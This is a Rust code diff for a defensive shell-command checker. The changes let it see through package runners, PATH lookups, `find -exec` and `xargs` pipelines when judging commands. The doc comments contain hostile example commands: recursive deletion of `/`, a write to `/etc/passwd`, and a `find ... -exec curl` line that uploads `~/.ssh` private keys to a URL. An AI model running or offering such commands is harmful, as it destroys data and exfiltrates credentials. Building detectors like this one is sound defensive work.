@@ -4,10 +4,19 @@
 //! A command is first **resolved**: env-var prefixes dropped, wrappers looked through (`sudo`
 //! with its options, `doas`, `env` with options and assignments, `command`, `builtin`, `exec`,
 //! `nice`, `ionice`, `nohup`, `timeout`, `time`, `stdbuf`, `xargs`, `watch`, `busybox`, `setsid`,
-//! `chroot`), the program's path reduced to its name (`/usr/bin/rm` is `rm`; `./rm` is a local
-//! file, not `rm`), and its name lowercased (program names are case-insensitive here; file names
+//! `chroot`), package runners looked through to the package's binary (`npx cdktf-cli@0.20
+//! destroy` runs `cdktf destroy`; `pnpm dlx`, `pnpm exec`, `yarn dlx`, `npm exec`, `bunx`,
+//! `uvx`, `pipx run`, `uv run`, `poetry run`, `bundle exec` alike), a path looked up on the PATH
+//! (`$(command -v rm)`, `` `which rm` ``) read as the program it names, the program's path
+//! reduced to its name (`/usr/bin/rm` is `rm`; `./rm` is a local file, not `rm`), and its name
+//! lowercased (program names are case-insensitive here; file names
 //! are not). A command written all in capitals (`RM -RF /`) has all its words folded: no shell
 //! would run it, but the intent is plain.
+//!
+//! Whatever a command hands to another command goes back to the whole judgement: shell strings
+//! (`sh -c`, `watch`, `flock -c`, `su -c`, `trap`, `npx -c`: `interpreters::shell_string`,
+//! with `$1` / `"$@"` inlined), `find -exec` and `xargs sh -c` bodies, what is fed on stdin to
+//! a program that reads a language there ([`stdin`]), and Windows' commands ([`windows`]).
 //!
 //! Then the family recognizer of the program reads its flags the way the program does (`-rf`,
 //! `-r -f`, `-fr`, `--recursive --force` are the same; options that take an argument skip it;
@@ -23,8 +32,10 @@ pub mod lexicon;
 pub mod paths;
 pub mod payments;
 pub mod secrets;
+pub mod stdin;
 pub mod system;
 pub mod tampering;
+pub mod windows;
 
 use std::borrow::Cow;
 
@@ -48,6 +59,10 @@ pub struct Cmd<'c> {
     pub assignments: &'c [Cow<'c, str>],
     /// The wrappers' words before the program (`env PIP_INDEX_URL=... `, `sudo -u x`).
     pub prefix: &'c [Cow<'c, str>],
+    /// The package runner that fetched and started the program, from its name to the package
+    /// as written (`npx --yes cdktf-cli@latest`, `pnpm dlx create-x@1`, `uvx --from git+URL
+    /// tool`); empty when no runner started it. The program is the package's binary.
+    pub launcher: &'c [Cow<'c, str>],
 }
 
 impl<'c> Cmd<'c> {
@@ -220,15 +235,38 @@ impl Context {
             .map(|(_, origin)| origin.as_str())
     }
 
-    /// Whether `path` is (or ends with the name of) a downloaded file.
+    /// Whether `path` is (or ends with the name of) a downloaded file. A download recorded as
+    /// a glob (`dist/*`, `*.tar.gz`: a release's assets) covers the names it matches.
     pub fn downloaded(&self, path: &str) -> bool {
         let name = paths::file_name(path);
         !name.is_empty()
-            && self
-                .downloads
-                .iter()
-                .any(|d| d == path || paths::file_name(d) == name)
+            && self.downloads.iter().any(|d| {
+                d == path || {
+                    let d_name = paths::file_name(d);
+                    d_name == name || d_name.contains('*') && glob_matches(d_name, name)
+                }
+            })
     }
+}
+
+/// Whether a file name matches a shell glob of `*` wildcards (`*linux*.tar.gz`).
+fn glob_matches(glob: &str, name: &str) -> bool {
+    let mut parts = glob.split('*');
+    let first = parts.next().unwrap_or("");
+    let Some(mut rest) = name.strip_prefix(first) else {
+        return false;
+    };
+    let pieces: Vec<&str> = parts.collect();
+    for (i, piece) in pieces.iter().enumerate() {
+        if i + 1 == pieces.len() {
+            return rest.ends_with(piece);
+        }
+        match rest.find(piece) {
+            Some(at) => rest = &rest[at + piece.len()..],
+            None => return false,
+        }
+    }
+    rest.is_empty()
 }
 
 /// How deep re-parsed bodies (`bash -c`, `eval`, decoded payloads, substitutions) may nest.
@@ -240,6 +278,8 @@ pub fn script(s: &Script<'_>, depth: u8, ctx: &mut Context, out: &mut Vec<Findin
         return;
     }
     for (i, c) in s.commands.iter().enumerate() {
+        let expanded = expand_lookups(c);
+        let c = expanded.as_ref().unwrap_or(c);
         let mut folded = Vec::new();
         let Some(cmd) = resolve(c, &mut folded) else {
             // Redirections alone (`> /etc/passwd`) still write.
@@ -251,6 +291,7 @@ pub fn script(s: &Script<'_>, depth: u8, ctx: &mut Context, out: &mut Vec<Findin
                 piped_in: c.piped_in,
                 assignments: &c.assignments,
                 prefix: &[],
+                launcher: &[],
             };
             filesystem::redirects(&bare, out);
             tampering::judge(&bare, ctx, out);
@@ -269,9 +310,19 @@ pub fn resolve<'c>(c: &'c Command<'_>, folded: &'c mut Vec<Cow<'static, str>>) -
     let mut words: &'c [Cow<'c, str>] = &c.words;
     let mut more_args = false;
     let mut k = 0;
+    // Where the package runner that starts the program begins (`npx`, `pnpm dlx`, `uvx`...).
+    let mut runner: Option<usize> = None;
     loop {
         let first = words.get(k)?;
         let name = program_name(first);
+        if let Some(j) = package_runner(name, words, k) {
+            if j <= k || j >= words.len() {
+                break;
+            }
+            runner = Some(k);
+            k = j;
+            continue;
+        }
         let next = match name {
             "sudo" | "doas" => {
                 // `sudo -e FILE` (sudoedit) edits FILE: sudo is the program.
@@ -346,13 +397,26 @@ pub fn resolve<'c>(c: &'c Command<'_>, folded: &'c mut Vec<Cow<'static, str>>) -
                     ],
                 )
             }
-            "watch" => skip_options(
-                words,
-                k + 1,
-                &["-n", "-d", "--interval", "--differences", "-q", "--chgexit"],
-            ),
+            "watch" => {
+                let j = skip_options(words, k + 1, WATCH_VALUES);
+                // watch hands its command to `sh -c` (watch(1)) unless `-x` / `--exec`: one
+                // quoted word with operators in it (`watch 'ls | head'`) is a script, judged
+                // as one by the shell-string reader (`interpreters::shell_string`).
+                let exec = words[k + 1..j.min(words.len())]
+                    .iter()
+                    .any(|w| w == "-x" || w == "--exec");
+                if !exec
+                    && words.len() == j + 1
+                    && words[j].contains([' ', '\t', '\n', ';', '|', '&'])
+                {
+                    break;
+                }
+                j
+            }
             "busybox" | "toybox" => k + 1,
             "chroot" => skip_options(words, k + 1, &["--userspec", "--groups"]) + 1,
+            // `flock FILE -c CMD` hands CMD to a shell: the shell-string reader judges it.
+            "flock" if words.iter().any(|w| w == "-c" || w == "--command") => break,
             "flock" => {
                 skip_options(
                     words,
@@ -400,15 +464,122 @@ pub fn resolve<'c>(c: &'c Command<'_>, folded: &'c mut Vec<Cow<'static, str>>) -
         words = f;
     }
     let first = words.get(k)?;
+    let program = leak_lower(first);
     Some(Cmd {
-        program: leak_lower(first),
+        program: if runner.is_some() {
+            package_bin(program)
+        } else {
+            program
+        },
         args: &words[k + 1..],
         redirects: &c.redirects,
         more_args,
         piped_in: c.piped_in,
         assignments: &c.assignments,
         prefix: &words[..k],
+        launcher: runner.map_or(&[][..], |r| &words[r..=k]),
     })
+}
+
+/// The options of `watch` that take a value.
+pub const WATCH_VALUES: &[&str] = &["-n", "-d", "--interval", "--differences", "-q", "--chgexit"];
+
+/// A package runner at `words[k]` (`npx`, `bunx`, `pnpx`, `uvx`, and `pnpm dlx|exec`, `yarn
+/// dlx|exec`, `npm exec|x`, `bun x`, `pipx run`, `uv run`, `uv tool run`, `poetry run`, `pipenv
+/// run`, `bundle exec`): the index of the package (or command) it starts, after the runner's
+/// options. `None` when `words[k]` is no runner, or hands a string to a shell instead
+/// (`npx -c 'cmd'`, `npm exec --call 'cmd'`: the shell-string reader judges those).
+fn package_runner(name: &str, words: &[Cow<'_, str>], k: usize) -> Option<usize> {
+    // Options of the runners that take a value (npm's, pnpm's, bun's, uv's and pipx's docs).
+    const VALUES: &[&str] = &[
+        "-p",
+        "--package",
+        "--registry",
+        "--cache",
+        "--userconfig",
+        "-w",
+        "--workspace",
+        "--node-options",
+        "--from",
+        "--with",
+        "--with-editable",
+        "--with-requirements",
+        "--python",
+        "--index-url",
+        "--extra-index-url",
+        "--index",
+        "--spec",
+        "--pip-args",
+        "--directory",
+        "--project",
+        "-C",
+        "--dir",
+        "--filter",
+        "-F",
+        "--env-file",
+        "--gemfile",
+    ];
+    let sub = |s: &[&str]| words.get(k + 1).is_some_and(|w| s.contains(&&**w));
+    let start = match name {
+        "npx" | "bunx" | "pnpx" | "uvx" => k + 1,
+        "pnpm" | "yarn" if sub(&["dlx", "exec"]) => k + 2,
+        "npm" if sub(&["exec", "x"]) => k + 2,
+        "bun" if sub(&["x"]) => k + 2,
+        "pipx" | "poetry" | "pipenv" | "hatch" | "pdm" | "rye" if sub(&["run"]) => k + 2,
+        "bundle" | "rbenv" if sub(&["exec"]) => k + 2,
+        "uv" if sub(&["run"]) => k + 2,
+        "uv" if sub(&["tool"]) && words.get(k + 2).is_some_and(|w| w == "run") => k + 3,
+        _ => return None,
+    };
+    let j = skip_options(words, start, VALUES);
+    let shell = words[start.min(words.len())..j.min(words.len())]
+        .iter()
+        .any(|w| matches!(&**w, "-c" | "--call" | "--shell-mode") || w.starts_with("--call="));
+    (!shell).then_some(j)
+}
+
+/// The binary a package runner starts for a package as written: `@org/tool@2.1.0` is `tool`,
+/// `create-x@latest` is `create-x`, `ruff==0.4` and `black[jupyter]` are `ruff` and `black`;
+/// a CLI packaged as `NAME-cli` (`cdktf-cli`, `netlify-cli`) or `@NAME/cli` (`@railway/cli`)
+/// installs the binary `NAME`, and `firebase-tools` installs `firebase`.
+pub fn package_bin(spec: &str) -> &str {
+    // A local file or URL is run as itself.
+    if spec.starts_with("./") || spec.contains("://") {
+        return spec;
+    }
+    let spec = spec.strip_prefix("npm:").unwrap_or(spec);
+    let (scope, mut name) = match spec.strip_prefix('@').and_then(|r| r.split_once('/')) {
+        Some((scope, rest)) => (scope, rest),
+        None => ("", spec),
+    };
+    if let Some(at) = name.rfind('@')
+        && at > 0
+    {
+        name = &name[..at];
+    }
+    if let Some(end) = name.find(['=', '<', '>', '[', '~', '!']) {
+        name = &name[..end];
+    }
+    if name == "cli" && !scope.is_empty() {
+        return scope;
+    }
+    // The packages whose binary has another name altogether.
+    match name {
+        "aws-cdk" => return "cdk",
+        "typescript" => return "tsc",
+        _ => {}
+    }
+    // A program known by its full name keeps it (`redis-cli`, `azure-cli`'s `az` aside).
+    if !lexicon::is(name, lexicon::PROGRAM) {
+        for suffix in ["-cli", "-tools"] {
+            if let Some(base) = name.strip_suffix(suffix)
+                && !base.is_empty()
+            {
+                return base;
+            }
+        }
+    }
+    if name.is_empty() { spec } else { name }
 }
 
 /// A program word with capitals (`RM`, `gIt`): no shell finds it, but the intent is plain, so the
@@ -457,6 +628,10 @@ pub fn program_name(w: &str) -> &str {
     if w.starts_with("./") {
         return w;
     }
+    // `$(command -v rm)`, `` `which rm` ``: the shell looks the program up and runs it.
+    if let Some(looked_up) = path_lookup(w) {
+        return looked_up;
+    }
     let name = w.rsplit('/').next().unwrap_or(w);
     // A Windows executable's name (`powershell.exe`, `curl.exe`) is the program's.
     let name = name
@@ -464,6 +639,55 @@ pub fn program_name(w: &str) -> &str {
         .or_else(|| name.strip_suffix(".EXE"))
         .unwrap_or(name);
     if name.is_empty() { w } else { name }
+}
+
+/// The program a word looks up on the PATH when it is one lookup substitution: `$(command -v
+/// X)`, `$(which X)`, `$(type -p X)` / `-P`, `$(whence -p X)`, `$(whereis -b X)` or the same in
+/// backticks print X's path, so the word names X (`chmod -x "$(command -v airlock)"` changes
+/// airlock's binary, `$(which rm) -rf /` runs rm).
+pub fn path_lookup(w: &str) -> Option<&str> {
+    let b = w.as_bytes();
+    let inner = if b.first() == Some(&b'`') && b.len() > 2 && b[b.len() - 1] == b'`' {
+        &w[1..w.len() - 1]
+    } else if w.starts_with("$(") && w.ends_with(')') {
+        &w[2..w.len() - 1]
+    } else {
+        return None;
+    };
+    let mut parts = inner.split_whitespace();
+    let lookup = parts.next()?;
+    let mut arg = parts.next()?;
+    match lookup {
+        "which" => {}
+        "command" | "type" | "whence" | "whereis" if arg.starts_with('-') => {
+            if !matches!(arg, "-v" | "-p" | "-P" | "-b" | "-pa" | "-vp") {
+                return None;
+            }
+            arg = parts.next()?;
+        }
+        _ => return None,
+    }
+    if parts.next().is_some() || arg.starts_with('-') || arg.contains(['$', '`', '(']) {
+        return None;
+    }
+    Some(arg)
+}
+
+/// The words of a command with every lookup substitution (`$(command -v X)`, see
+/// [`path_lookup`]) replaced by a path of X on the PATH, or `None` when it has none (the usual
+/// case, checked without allocating): the recognizers then grade the path (`/usr/bin/X`).
+fn expand_lookups<'a>(c: &Command<'a>) -> Option<Command<'a>> {
+    let has = |w: &str| (w.contains("$(") || w.contains('`')) && path_lookup(w).is_some();
+    if !c.words.iter().skip(1).any(|w| has(w)) {
+        return None;
+    }
+    let mut out = c.clone();
+    for w in out.words.iter_mut().skip(1) {
+        if let Some(x) = path_lookup(w) {
+            *w = Cow::Owned(format!("/usr/bin/{x}"));
+        }
+    }
+    Some(out)
 }
 
 /// `program_name`, lowercased: borrowed when already lower case (the usual case); the few
@@ -575,18 +799,21 @@ fn command(
             ctx.cwd_unsure = entered;
         }
     }
+    // A dry run, a help or a version request does nothing it names, whatever family the
+    // command belongs to: no secret is read or sent, airlock approves nothing (`airlock
+    // approve --help` prints usage).
     if dry_run(cmd) {
-        secrets::judge(cmd, s, index, ctx, out);
-        tampering::judge(cmd, ctx, out);
         return;
     }
+    if p == "find" {
+        find_exec(cmd, depth, ctx, out);
+    }
     if cmd.more_args {
-        bulk(cmd, s, index, None, out);
+        if !find_feeder(cmd, s, index, depth, ctx, out) {
+            bulk(cmd, s, index, None, out);
+        }
     } else if let Some(list) = loop_list(cmd, s, index) {
         bulk(cmd, s, index, Some(list), out);
-    }
-    if p == "crontab" && cmd.piped_in {
-        scheduled(s, index, depth, ctx, out);
     }
     match p {
         "rm" | "rmdir" | "unlink" | "find" | "shred" | "truncate" | "dd" | "wipefs" | "chmod"
@@ -629,7 +856,6 @@ fn command(
         }
         _ if lexicon::is(p, lexicon::DATABASE) => {
             database(p, cmd.args, out);
-            database_stdin(cmd, s, index, out);
         }
         "python" | "python3" | "php" | "bundle" | "npx" | "bunx" | "pnpm" | "yarn"
             if cmd.args.iter().any(|a| {
@@ -667,6 +893,7 @@ fn command(
         }
         out.extend(crate::prose::judge_prose(&text, &[]));
     }
+    stdin::judge(cmd, s, index, depth, ctx, out);
     system::judge(cmd, out);
     system::edit_with_editor(cmd, s, index, out);
     secrets::judge(cmd, s, index, ctx, out);
@@ -779,10 +1006,62 @@ fn help(cmd: &Cmd<'_>) -> bool {
     }
     // Go's flag package (terraform, vault...) takes `-help` too.
     let go_flags = matches!(p, "terraform" | "tofu" | "terragrunt" | "packer" | "vault");
+    let short_help = short_help(p);
     let mut options = cmd.words().take_while(|w| *w != "--");
-    options.any(|w| w == "--help" || w == "-help" && go_flags)
-        || cmd.operands(&[]).next() == Some("help")
+    options.any(|w| {
+        w == "--help"
+            || w == "--version"
+            || (w == "-help" || w == "-version") && go_flags
+            || w == "-h" && short_help
+    }) || cmd.operands(&[]).next() == Some("help")
         || cmd.program == "aws" && cmd.args.last().is_some_and(|w| w == "help")
+}
+
+/// Programs whose `-h` is their help (clap, cobra, urfave/cli, argparse and git's
+/// subcommands print usage and exit). Elsewhere `-h` means something else and acts: `shutdown
+/// -h` halts, `psql -h` / `mysql -h` / `redis-cli -h` name a host, `chown -h` and `tar -h`
+/// follow links, `sort -h` / `df -h` / `rsync -h` print sizes.
+fn short_help(program: &str) -> bool {
+    matches!(
+        program,
+        "airlock"
+            | "git"
+            | "gh"
+            | "glab"
+            | "kubectl"
+            | "oc"
+            | "helm"
+            | "docker"
+            | "podman"
+            | "nerdctl"
+            | "terraform"
+            | "tofu"
+            | "terragrunt"
+            | "pulumi"
+            | "vault"
+            | "consul"
+            | "nomad"
+            | "packer"
+            | "cargo"
+            | "rclone"
+            | "gcloud"
+            | "az"
+            | "doctl"
+            | "flyctl"
+            | "fly"
+            | "heroku"
+            | "velero"
+            | "istioctl"
+            | "k9s"
+            | "kind"
+            | "minikube"
+            | "stripe"
+            | "restic"
+            | "op"
+            | "pip"
+            | "pip3"
+            | "npm"
+    )
 }
 
 /// A command whose program is a SQL statement keyword (`DROP TABLE users` inside a script).
@@ -818,46 +1097,136 @@ fn database(program: &str, args: &[Cow<'_, str>], out: &mut Vec<Finding>) {
     out.extend(crate::sql::judge_db_command(program, &args));
 }
 
-/// SQL given to a database client on stdin: a here-string or here-document, or the text an
-/// upstream `echo`/`printf`/`cat` prints (decoded, when it is a payload).
-fn database_stdin(cmd: &Cmd<'_>, s: &Script<'_>, index: usize, out: &mut Vec<Finding>) {
-    for r in cmd.redirects {
-        if matches!(
-            r.kind,
-            crate::shell::RedirectKind::HereString | crate::shell::RedirectKind::HereDoc
-        ) {
-            out.extend(crate::sql::judge_sql(&r.target));
-        }
-    }
-    if !cmd.piped_in || index == 0 {
+/// `find ... -exec CMD {} \;` (and `-execdir`, `-ok`, `-okdir`, `+`) runs CMD on every path
+/// found: CMD goes back to the whole judgement. A shell's `-c` body has its `$1` / `"$@"`
+/// inlined first (`-exec sh -c 'rm -rf "$1"' _ {} \;` runs `rm -rf {}`). A delete among the
+/// commands is judged as `find ... -exec rm`, by the find recognizer (it knows the start's
+/// scope and the filters); any other command is judged on the paths found, written as the
+/// start joined with the `-name` pattern (`find ~/.ssh -name 'id_*' -exec curl -F f=@{} URL`
+/// sends `~/.ssh/id_*`).
+fn find_exec(cmd: &Cmd<'_>, depth: u8, ctx: &mut Context, out: &mut Vec<Finding>) {
+    let words: Vec<&str> = cmd.words().collect();
+    let Some(at) = words
+        .iter()
+        .position(|w| matches!(*w, "-exec" | "-execdir" | "-ok" | "-okdir"))
+    else {
         return;
+    };
+    let end = words[at + 1..]
+        .iter()
+        .position(|w| matches!(*w, ";" | "\\;" | "+"))
+        .map_or(words.len(), |e| at + 1 + e);
+    let exec = &words[at + 1..end];
+    let Some(&program) = exec.first() else { return };
+    let quote = |w: &str| format!("'{}'", w.replace('\'', "'\\''"));
+    let start = words
+        .iter()
+        .take_while(|w| !w.starts_with('-') && !w.starts_with('(') && !w.starts_with('!'))
+        .copied()
+        .max_by_key(|w| paths::scope(w))
+        .unwrap_or(".");
+    let found = match cmd.value(&["-name", "-iname"]) {
+        Some(pattern) if !pattern.contains('/') => {
+            format!("{}/{pattern}", start.trim_end_matches('/'))
+        }
+        _ => start.to_owned(),
+    };
+    // The commands the exec runs, `{}` kept.
+    let name = program_name(program);
+    let body = if lexicon::is(name, lexicon::SHELL) {
+        let Some(c) = exec
+            .iter()
+            .position(|w| w.starts_with('-') && w.contains('c'))
+        else {
+            return;
+        };
+        let Some(body) = exec.get(c + 1) else { return };
+        interpreters::inline_positional(body, &exec[(c + 2).min(exec.len())..]).into_owned()
+    } else if matches!(name, "rm" | "shred" | "unlink" | "srm") {
+        // The find recognizer has judged it already.
+        return;
+    } else {
+        exec.iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ")
+    };
+    let before: Vec<String> = words[..at].iter().map(|w| quote(w)).collect();
+    let script = crate::shell::parse(&body);
+    for c in &script.commands {
+        let Some(first) = c.words.first() else {
+            continue;
+        };
+        let line: Vec<String> = c.words.iter().map(|w| quote(w)).collect();
+        let text = if matches!(program_name(first), "rm" | "shred" | "unlink" | "srm") {
+            format!("find {} -exec {} \\;", before.join(" "), line.join(" "))
+        } else {
+            line.join(" ").replace("{}", &found)
+        };
+        crate::judge_shell(&text, depth + 1, ctx, out);
+    }
+}
+
+/// `find S FILTERS | xargs rm ARGS` (or `xargs rm ARGS < <(find ...)`) deletes what `find S
+/// FILTERS -exec rm ARGS {} +` deletes: judged as that, so a bounded search (`find tmp/ -name
+/// '*.o'`) stays bounded and a search of `/` is one of `/`. False when the feeder is not one
+/// `find` (then the bulk reading applies).
+fn find_feeder(
+    cmd: &Cmd<'_>,
+    s: &Script<'_>,
+    index: usize,
+    depth: u8,
+    ctx: &mut Context,
+    out: &mut Vec<Finding>,
+) -> bool {
+    if !matches!(cmd.program, "rm" | "shred" | "unlink" | "srm") {
+        return false;
     }
     let pipeline = s.commands[index].pipeline;
     let upstream: Vec<&Command<'_>> = s.commands[..index]
         .iter()
         .filter(|c| c.pipeline == pipeline)
         .collect();
-    let mut text = String::new();
-    for (k, c) in upstream.iter().enumerate() {
-        if k > 0 {
-            text.push_str(" | ");
-        }
-        for w in &c.words {
-            text.push('\'');
-            text.push_str(&w.replace('\'', "'\\''"));
-            text.push_str("' ");
-        }
-        for r in &c.redirects {
-            if r.kind == crate::shell::RedirectKind::HereString {
-                text.push_str("<<< '");
-                text.push_str(&r.target.replace('\'', "'\\''"));
-                text.push('\'');
+    let substituted = cmd.redirects.iter().find_map(|r| {
+        (r.kind == crate::shell::RedirectKind::Read)
+            .then(|| r.target.strip_prefix("<(")?.strip_suffix(')'))
+            .flatten()
+    });
+    let feeder_script;
+    let feeder: &Command<'_> = match (upstream.as_slice(), substituted) {
+        ([one], None) => one,
+        ([], Some(body)) => {
+            feeder_script = crate::shell::parse(body);
+            match feeder_script.commands.as_slice() {
+                [one] => one,
+                _ => return false,
             }
         }
+        _ => return false,
+    };
+    let mut folded = Vec::new();
+    let Some(find) = resolve(feeder, &mut folded) else {
+        return false;
+    };
+    if find.program != "find"
+        || find
+            .words()
+            .any(|w| matches!(w, "-exec" | "-execdir" | "-ok" | "-okdir" | "-delete"))
+    {
+        return false;
     }
-    if let Some(sql) = interpreters::decoded_output(&text) {
-        out.extend(crate::sql::judge_sql(&sql));
+    let quote = |w: &str| format!("'{}'", w.replace('\'', "'\\''"));
+    let mut text = String::from("find");
+    for w in find.words().filter(|w| !matches!(*w, "-print0" | "-print")) {
+        text.push(' ');
+        text.push_str(&quote(w));
     }
+    text.push_str(" -exec ");
+    text.push_str(cmd.program);
+    for w in cmd.words() {
+        text.push(' ');
+        text.push_str(&quote(w));
+    }
+    text.push_str(" {} +");
+    crate::judge_shell(&text, depth + 1, ctx, out);
+    true
 }
 
 /// The words of the list a `for VAR in LIST; do ...; done` loop feeds to `cmd` through an
@@ -889,7 +1258,7 @@ fn lists(w: &str) -> bool {
 
 /// A command run on many targets it does not name: by `xargs` on input from upstream, or in a
 /// `for` loop over `list` (its words). Bulk, with targets unknown here.
-fn bulk(
+pub(crate) fn bulk(
     cmd: &Cmd<'_>,
     s: &Script<'_>,
     index: usize,
@@ -1000,35 +1369,4 @@ fn push_bulk(cmd: &Cmd<'_>, wide: bool, in_loop: bool, out: &mut Vec<Finding>) {
             }
         ),
     ));
-}
-
-/// The jobs piped into `crontab -`: each line's command (after its schedule) runs later,
-/// unattended, so it is judged like a command run now.
-fn scheduled(s: &Script<'_>, index: usize, depth: u8, ctx: &mut Context, out: &mut Vec<Finding>) {
-    let pipeline = s.commands[index].pipeline;
-    for c in s.commands[..index]
-        .iter()
-        .filter(|c| c.pipeline == pipeline)
-    {
-        let mut folded = Vec::new();
-        let Some(u) = resolve(c, &mut folded) else {
-            continue;
-        };
-        if !matches!(u.program, "echo" | "printf") {
-            continue;
-        }
-        for line in u.operands(&[]) {
-            for job in line.lines() {
-                let fields = if job.starts_with('@') { 1 } else { 5 };
-                let command = job
-                    .split_whitespace()
-                    .skip(fields)
-                    .collect::<Vec<_>>()
-                    .join(" ");
-                if !command.is_empty() {
-                    crate::judge_shell(&command, depth + 1, ctx, out);
-                }
-            }
-        }
-    }
 }
